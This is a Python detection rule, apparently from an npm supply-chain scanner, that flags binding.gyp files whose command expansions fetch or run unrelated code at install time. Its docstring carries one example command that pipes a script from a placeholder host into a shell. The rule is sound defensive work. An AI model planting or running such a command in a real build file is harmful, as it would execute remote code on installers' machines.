"""What it sees
    A `binding.gyp` whose command expansions (`<!(...)`) or actions download, decode or run code that has nothing to do
    with building.

Why it matters
    npm runs `node-gyp rebuild` for every package with a `binding.gyp`, even when package.json has no script at all.

Example
    "variables": {"x": "<!(curl -s https://a.test/x | sh)"}

What to do
    Do not install. Use `--ignore-scripts`.

False alarms
    `<!(node -p "require('node-addon-api').include")` and `pkg-config` are how addons are built: not reported.

References
    gyp, "Command expansions"; ATT&CK T1195.001, T1059.
"""

import posixpath
from collections.abc import Iterator

from lazaretto.detect.commands import start_signals, uninvited
from lazaretto.detect.rule import Match, Rule
from lazaretto.model.finding import Confidence, Phase, Role, Severity, Signal
from lazaretto.model.text import N_
from lazaretto.parse.manifests import BindingGyp
from lazaretto.parse.shell import analyse
from lazaretto.parse.views import ParseError


def check(view: BindingGyp) -> Iterator[Match | Signal]:
    """Judge each command."""
    for text, line in view.commands:
        facts = analyse(text)
        if view.blob.name == "binding.gyp":
            yield from start_signals(facts, Phase.INSTALL, view.path, posixpath.dirname(view.path), line)
        danger = uninvited(facts)
        if danger is not None:
            yield danger.match(view.blob.name, line, text)
    if len(view.commands) >= BindingGyp.MOST:
        raise ParseError("it holds more commands than are read")


RULE = Rule(
    id="npm/binding-gyp-command",
    title=N_("A native build description runs foreign commands"),
    view=BindingGyp,
    severity=Severity.HIGH,
    confidence=Confidence.HIGH,
    phase=Phase.INSTALL,
    role=Role.TRIGGER,
    check=check,
    doc=__doc__,
    techniques=("T1195.001", "T1059"),
    needles=(b"<!", b"action"),
)
